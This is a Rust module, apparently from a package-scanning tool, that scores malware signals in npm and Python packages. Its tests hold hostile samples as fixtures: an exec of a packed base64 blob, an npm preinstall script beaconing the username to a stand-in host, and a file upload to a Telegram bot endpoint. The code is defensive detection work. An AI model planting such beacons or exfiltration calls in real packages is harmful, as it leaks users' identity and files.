//! Package-level combination of hits into one score and severity.
//!
//! Design: capabilities (network, subprocess, exec, os.environ, base64) score
//! nothing alone, because every big library has them; each rule counts once
//! per file however often it matches; a file's rules add up; findings in a
//! decoded layer weigh 1.5×; flows (credential read + send, install hook +
//! payload) carry their own high weight. The package takes its worst file
//! plus a capped share of other rules found elsewhere, plus package-level
//! combinations (install hook with payload signals, typosquat with hooks).

pub use crate::metadata::PackageMeta;
use crate::rule::{Family, Hit};
use chainwarden_core::{Confidence, Severity};
use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet};

/// Score at or above which the verdict is critical / high / medium / low.
pub const CRITICAL_AT: f32 = 12.0;
pub const HIGH_AT: f32 = 6.0;
pub const MEDIUM_AT: f32 = 3.0;
pub const LOW_AT: f32 = 1.0;
/// Most that rules outside the worst file add.
const OTHER_FILES_CAP: f32 = 4.0;

/// The package-level result.
#[derive(Debug, Clone, Serialize)]
pub struct Verdict {
    pub score: f32,
    pub severity: Severity,
    pub confidence: Confidence,
    /// Families that contributed (capabilities left out), sorted.
    pub families: Vec<Family>,
    /// Every hit (input plus metadata checks), worst first.
    pub hits: Vec<Hit>,
}

/// What one hit weighs.
pub fn weight(h: &Hit) -> f32 {
    let sev = match h.severity {
        Severity::Info => 0.0,
        Severity::Low => 0.5,
        Severity::Medium => 1.5,
        Severity::High => 4.0,
        Severity::Critical => 8.0,
    };
    let conf = match h.confidence {
        Confidence::Low => 0.5,
        Confidence::Medium => 0.75,
        Confidence::High => 1.0,
    };
    let hidden = if h.layer > 0 { 1.5 } else { 1.0 };
    sev * conf * hidden
}

/// Combines one package's hits (from [`crate::scan_source`] over its files)
/// and, when given, its metadata into a verdict.
pub fn verdict(hits: &[Hit], meta: Option<&PackageMeta>) -> Verdict {
    let mut all: Vec<Hit> = hits.to_vec();
    let install_hit = |h: &Hit| h.family == Family::Install && h.severity >= Severity::Low;
    let has_install = all.iter().any(install_hit);
    if let Some(m) = meta {
        let mut m = m.clone();
        m.has_install_hooks |= has_install;
        // package.json hits already ran these checks.
        let already = all
            .iter()
            .any(|h| matches!(h.family, Family::Typosquat | Family::Metadata));
        if !already {
            all.extend(crate::metadata::check(&m));
        }
    }

    all.extend(install_target_beacons(&all));

    // Per file: each rule counts once, at its heaviest hit.
    let mut files: BTreeMap<&str, BTreeMap<&str, f32>> = BTreeMap::new();
    for h in &all {
        let e = files
            .entry(h.path.as_str())
            .or_default()
            .entry(h.rule.meta.id)
            .or_insert(0.0);
        *e = e.max(weight(h));
    }
    // Same-file combinations of weak signals.
    let mut combos: BTreeMap<&str, f32> = BTreeMap::new();
    for (path, rules) in &files {
        let has = |id: &str| rules.contains_key(id);
        let fam = |f: Family| {
            all.iter()
                .any(|h| h.path == *path && h.family == f && h.severity >= Severity::Low)
        };
        let network = has("heuristic/capability-network");
        let mut bonus = 0.0;
        if network && fam(Family::Persistence) {
            bonus += 2.5;
        }
        if network
            && all.iter().any(|h| {
                h.path == *path && h.family == Family::Obfuscation && h.severity >= Severity::Medium
            })
        {
            bonus += 2.0;
        }
        // A network call next to a webhook, paste site or tunnel: the send.
        if network
            && all.iter().any(|h| {
                h.path == *path && h.family == Family::Destination && h.severity >= Severity::Medium
            })
        {
            bonus += 2.0;
        }
        // A kilobyte-long blob run through exec: a packed payload, not data.
        if has(crate::families::obfuscation::EXEC_DECODED.meta.id)
            && has(crate::families::obfuscation::LONG_BLOB.meta.id)
        {
            bonus += 2.0;
        }
        combos.insert(path, bonus);
    }
    let file_score = |rules: &BTreeMap<&str, f32>| rules.values().sum::<f32>();
    let total =
        |p: &str, r: &BTreeMap<&str, f32>| file_score(r) + combos.get(p).copied().unwrap_or(0.0);
    let worst = files
        .iter()
        .max_by(|a, b| total(a.0, a.1).total_cmp(&total(b.0, b.1)));
    let mut score = worst.map_or(0.0, |(p, r)| total(p, r));
    // Other rules found elsewhere add a capped share.
    if let Some((worst_path, worst_rules)) = worst {
        let mut others: BTreeMap<&str, f32> = BTreeMap::new();
        for (path, rules) in &files {
            if path == worst_path {
                continue;
            }
            for (id, w) in rules {
                if !worst_rules.contains_key(id) {
                    let e = others.entry(id).or_insert(0.0);
                    *e = e.max(*w);
                }
            }
        }
        score += (others.values().sum::<f32>() * 0.5).min(OTHER_FILES_CAP);
    }

    // Package-level combinations.
    let payload = all.iter().any(|h| {
        (matches!(
            h.family,
            Family::DownloadExec | Family::Destination | Family::Obfuscation
        ) && h.severity >= Severity::Medium)
            || h.rule.meta.id == crate::families::credentials::EXFIL.meta.id
            || h.rule.meta.id == crate::families::install::CMDCLASS_PAYLOAD.meta.id
    });
    if has_install && payload {
        score += 3.0;
    }
    let squat = all.iter().any(|h| h.family == Family::Typosquat);
    if squat && (has_install || payload) {
        score += 3.0;
    }

    let severity = match score {
        s if s >= CRITICAL_AT => Severity::Critical,
        s if s >= HIGH_AT => Severity::High,
        s if s >= MEDIUM_AT => Severity::Medium,
        s if s >= LOW_AT => Severity::Low,
        _ => Severity::Info,
    };
    let families: BTreeSet<Family> = all
        .iter()
        .filter(|h| h.family != Family::Capability && weight(h) > 0.0)
        .map(|h| h.family)
        .collect();
    let confidence = if score >= CRITICAL_AT || (score >= HIGH_AT && families.len() >= 2) {
        Confidence::High
    } else if score >= MEDIUM_AT {
        Confidence::Medium
    } else {
        Confidence::Low
    };
    all.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then(b.confidence.cmp(&a.confidence))
            .then(a.path.cmp(&b.path))
            .then(a.line.cmp(&b.line))
    });
    Verdict {
        score,
        severity,
        confidence,
        families: families.into_iter().collect(),
        hits: all,
    }
}

/// Files that npm install scripts run (`node preinstall.js`), as package
/// paths next to their package.json.
fn install_targets(hits: &[Hit]) -> Vec<String> {
    use crate::families::install::{NPM_SCRIPT, NPM_SCRIPT_SHELL};
    let mut out = Vec::new();
    for h in hits {
        let id = h.rule.meta.id;
        if id != NPM_SCRIPT.meta.id && id != NPM_SCRIPT_SHELL.meta.id {
            continue;
        }
        let cmd = h.snippet.split_once(": ").map_or("", |(_, c)| c);
        let mut words = cmd.split_whitespace();
        while let Some(w) = words.next() {
            if w != "node" {
                continue;
            }
            if let Some(t) = words.find(|w| !w.starts_with('-')) {
                let t = t.trim_start_matches("./");
                let t = if t == "." { "index.js" } else { t };
                let dir = h.path.rsplit_once('/').map_or("", |(d, _)| d);
                out.push(if dir.is_empty() {
                    t.to_string()
                } else {
                    format!("{dir}/{t}")
                });
            }
            break;
        }
    }
    out
}

/// A file run by an npm install script that reads the host or user
/// identity and makes a network call: an install-time beacon.
fn install_target_beacons(hits: &[Hit]) -> Vec<Hit> {
    use crate::families::{capability, destination};
    let mut out = Vec::new();
    for target in install_targets(hits) {
        let in_target = |id: &str| {
            hits.iter()
                .find(|h| h.path == target && h.rule.meta.id == id)
        };
        if let (Some(who), Some(_)) = (
            in_target(capability::HOST_IDENTITY.meta.id),
            in_target(capability::NETWORK.meta.id),
        ) {
            let rule = &destination::HOST_BEACON;
            out.push(Hit {
                rule,
                severity: rule.meta.default_severity,
                confidence: rule.confidence,
                path: target.clone(),
                line: who.line,
                snippet: who.snippet.clone(),
                layer: who.layer,
                family: rule.family,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn executed_long_blob_is_high_and_short_exec_decoded_is_not() {
        let blob = "QUJD".repeat(300);
        let packed = format!("import base64\nexec(base64.b64decode('{blob}'))\n");
        let v = verdict(&crate::scan_source("pkg/check.py", packed.as_bytes()), None);
        assert!(v.severity >= Severity::High, "{v:?}");
        let short = "import base64\nexec(base64.b64decode(payload))\n";
        let v = verdict(&crate::scan_source("pkg/check.py", short.as_bytes()), None);
        assert!(v.severity < Severity::High, "{v:?}");
        // A long blob that is only data (no exec) stays below high.
        let data = format!("ICON = '{blob}'\n");
        let v = verdict(&crate::scan_source("pkg/icons.py", data.as_bytes()), None);
        assert!(v.severity < Severity::High, "{v:?}");
    }

    #[test]
    fn npm_install_script_target_beacon_is_high() {
        let pkg = br#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"node update.js &"}}"#;
        let beacon = b"const os = require('os'), https = require('https');\nhttps.request({host: 'x.example', path: '/' + os.userInfo().username}).end();\n";
        let mut hits = crate::scan_source("package/package.json", pkg);
        hits.extend(crate::scan_source("package/update.js", beacon));
        let v = verdict(&hits, None);
        assert!(v.severity >= Severity::High, "{v:?}");
        // The same file not run by an install script stays below high.
        let v = verdict(&crate::scan_source("package/update.js", beacon), None);
        assert!(v.severity < Severity::High, "{v:?}");
        // An install script that only downloads (no identity) stays below high.
        let fetch = b"const https = require('https');\nhttps.get('https://x.example/bin.tgz', r => r.pipe(out));\n";
        let mut hits = crate::scan_source("package/package.json", pkg);
        hits.extend(crate::scan_source("package/update.js", fetch));
        assert!(verdict(&hits, None).severity < Severity::High);
    }

    #[test]
    fn network_call_to_a_webhook_weighs_more_than_the_url_alone() {
        let send = "import requests\nrequests.post('https://api.telegram.org/bot' + t + '/sendDocument', files={'document': open(f, 'rb')})\n";
        let url_only = "BOT = 'https://api.telegram.org/bot' + t\n";
        let a = verdict(&crate::scan_source("pkg/a.py", send.as_bytes()), None);
        let b = verdict(&crate::scan_source("pkg/a.py", url_only.as_bytes()), None);
        assert!(a.score >= b.score + 2.0, "{a:?} {b:?}");
        assert!(b.severity < Severity::Medium, "{b:?}");
    }
}
